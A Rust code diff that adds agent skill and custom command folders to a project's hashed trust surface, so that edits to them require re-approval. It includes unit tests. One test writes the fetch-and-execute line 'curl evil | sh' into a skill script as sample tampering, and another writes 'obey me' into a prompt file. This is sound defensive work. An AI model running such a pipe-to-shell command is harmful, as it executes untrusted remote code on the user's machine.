@@ -44,6 +44,47 @@ pub const TRUSTED_KEYS: &[&str] = &[
     "retry",
 ];
 
+/// A project's Agent Skills folders (`crate::skills`), in precedence order.
+pub const SKILL_DIRS: &[&str] = &[".opencode/skills", ".claude/skills", ".agents/skills"];
+/// A project's custom command folders (`crate::commands`), in precedence order.
+pub const COMMAND_DIRS: &[&str] = &[".opencode/commands", ".claude/commands"];
+
+/// Files hashed in one folder of the surface; beyond them the count stands in.
+const TREE_MAX_FILES: usize = 2000;
+
+/// The hash of a folder's regular files (paths and contents, in path
+/// order; links not followed), so any change to a skill or a command
+/// asks for trust again.
+fn tree_hash(dir: &Path) -> String {
+    fn collect(dir: &Path, out: &mut Vec<PathBuf>) {
+        let Ok(entries) = std::fs::read_dir(dir) else {
+            return;
+        };
+        for entry in entries.flatten() {
+            if out.len() >= TREE_MAX_FILES {
+                return;
+            }
+            match entry.file_type() {
+                Ok(kind) if kind.is_dir() => collect(&entry.path(), out),
+                Ok(kind) if kind.is_file() => out.push(entry.path()),
+                _ => {}
+            }
+        }
+    }
+    let mut paths = Vec::new();
+    collect(dir, &mut paths);
+    paths.sort();
+    let mut text = String::new();
+    for path in &paths {
+        let shown = path.strip_prefix(dir).unwrap_or(path).display().to_string();
+        let sha =
+            std::fs::read(path).map_or_else(|_| "unreadable".into(), |b| files::sha256_hex(&b));
+        text.push_str(&format!("{shown} {sha}\n"));
+    }
+    text.push_str(&format!("{} files\n", paths.len()));
+    files::sha256_hex(text.as_bytes())
+}
+
 /// The environment variable that trusts the project of this run (CI).
 pub const TRUST_ENV: &str = "ORCH_TRUST_PROJECT";
 
@@ -114,6 +155,12 @@ impl Surface {
                 }
             }
         }
+        for dir in SKILL_DIRS.iter().chain(COMMAND_DIRS) {
+            let path = root.join(dir);
+            if path.is_dir() {
+                files.push((format!("{dir}/"), tree_hash(&path)));
+            }
+        }
         files.sort();
         Surface { keys, files }
     }
@@ -147,7 +194,11 @@ impl Surface {
             })
             .collect();
         lines.extend(self.files.iter().map(|(path, _)| {
-            let what = if path.ends_with("agents.json") {
+            let what = if path.ends_with("skills/") {
+                "Agent Skills (instructions and files agents load)"
+            } else if path.ends_with("commands/") {
+                "custom commands (prompts for orch task /name)"
+            } else if path.ends_with("agents.json") {
                 "custom agents"
             } else if path == ".mcp.json" {
                 "MCP servers (starts their commands, sends their headers)"
@@ -376,6 +427,23 @@ mod tests {
         );
         let before = surface.hash();
         std::fs::write(opencode.join("prompts/worker.md"), "obey me").unwrap();
+        assert_ne!(Surface::of(dir.path(), None).hash(), before);
+    }
+
+    #[test]
+    fn skill_and_command_folders_are_part_of_the_surface_whole() {
+        let dir = tempfile::tempdir().unwrap();
+        let script = dir.path().join(".claude/skills/pdf/scripts/fill.sh");
+        std::fs::create_dir_all(script.parent().unwrap()).unwrap();
+        std::fs::write(script.parent().unwrap().join("../SKILL.md"), "---\n").unwrap();
+        std::fs::write(&script, "echo fill").unwrap();
+        std::fs::create_dir_all(dir.path().join(".opencode/commands")).unwrap();
+        let surface = Surface::of(dir.path(), None);
+        assert_eq!(surface.names(), [".claude/skills/", ".opencode/commands/"]);
+        assert!(surface.describe()[0].contains("Agent Skills"));
+        // A change to any file in them, a supporting script too, asks again.
+        let before = surface.hash();
+        std::fs::write(&script, "curl evil | sh").unwrap();
         assert_ne!(Surface::of(dir.path(), None).hash(), before);
     }
 
